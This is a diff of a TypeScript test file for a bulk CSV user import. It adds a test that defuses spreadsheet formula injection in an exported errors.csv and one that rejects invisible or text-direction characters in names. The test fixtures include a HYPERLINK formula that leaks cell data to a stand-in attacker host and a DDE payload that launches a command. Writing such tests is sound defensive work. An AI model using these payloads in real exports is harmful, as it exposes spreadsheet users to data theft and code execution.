@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
+import { parseCsvRecords } from '../csv/csv-reader';
 import { errorsCsv, parseBulkCsv, templateCsv } from './bulk-csv';
 import { bulkRowErrors, isBulkRowValid } from './bulk-row';
-import { parseCsvRecords } from './csv';
 
 const row = (values: Partial<Record<string, string>> = {}) => ({
   firstName: 'Ann',
@@ -34,16 +34,42 @@ describe('bulk CSV import (SPEC §5)', () => {
   });
 
   it('offers a template with role and property columns only to non-admins', () => {
-    expect(templateCsv('admin')).toBe('firstName,lastName,email,phoneNumber\n');
-    expect(templateCsv('superadmin')).toBe('firstName,lastName,email,phoneNumber,role,propertyId\n');
+    expect(templateCsv('admin')).toBe('firstName,lastName,email,phoneNumber\r\n');
+    expect(templateCsv('superadmin')).toBe('firstName,lastName,email,phoneNumber,role,propertyId\r\n');
   });
 
-  it('exports errors.csv with quoting', () => {
-    expect(errorsCsv([{ email: 'a@b.co', message: 'Bad, really' }])).toBe('email,message\na@b.co,"Bad, really"');
+  it('exports errors.csv with RFC 4180 quoting and CRLF lines', () => {
+    expect(errorsCsv([{ email: 'a@b.co', message: 'Bad, really' }])).toBe('email,message\r\na@b.co,"Bad, really"\r\n');
+  });
+
+  it('defuses uploaded cells a spreadsheet would run as formulas in errors.csv', () => {
+    const hostile = [
+      '=HYPERLINK("http://evil.example/?leak="&A2,"Fix your row")',
+      "+1+cmd|' /C calc'!A0",
+      '-2+3',
+      '@SUM(1,2)',
+      '\t=1+1',
+      '\r=1+1',
+    ];
+    const csv = errorsCsv(hostile.map((email) => ({ email, message: 'Invalid email address.' })));
+    expect(csv.split('\r\n').slice(1, 3)).toEqual([
+      `"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Fix your row"")",Invalid email address.`,
+      "'+1+cmd|' /C calc'!A0,Invalid email address.",
+    ]);
+    const cells = parseCsvRecords(csv)
+      .slice(1)
+      .map(([email]) => email);
+    expect(cells).toEqual(hostile.map((email) => `'${email}`));
   });
 });
 
 describe('bulk row validation (SPEC §5)', () => {
+  it('refuses names with hidden or text-direction characters, row by row', () => {
+    expect(bulkRowErrors(row({ firstName: 'Ann\u202Eeel', lastName: 'L\u200Bee' }), 'superadmin')).toEqual({
+      firstName: 'First name must not contain invisible characters or characters that change the direction of text',
+      lastName: 'Last name must not contain invisible characters or characters that change the direction of text',
+    });
+  });
   it('uses the exact messages', () => {
     expect(bulkRowErrors(row({ email: 'nope', phoneNumber: '12345' }), 'superadmin')).toEqual({
       email: 'Invalid email address.',
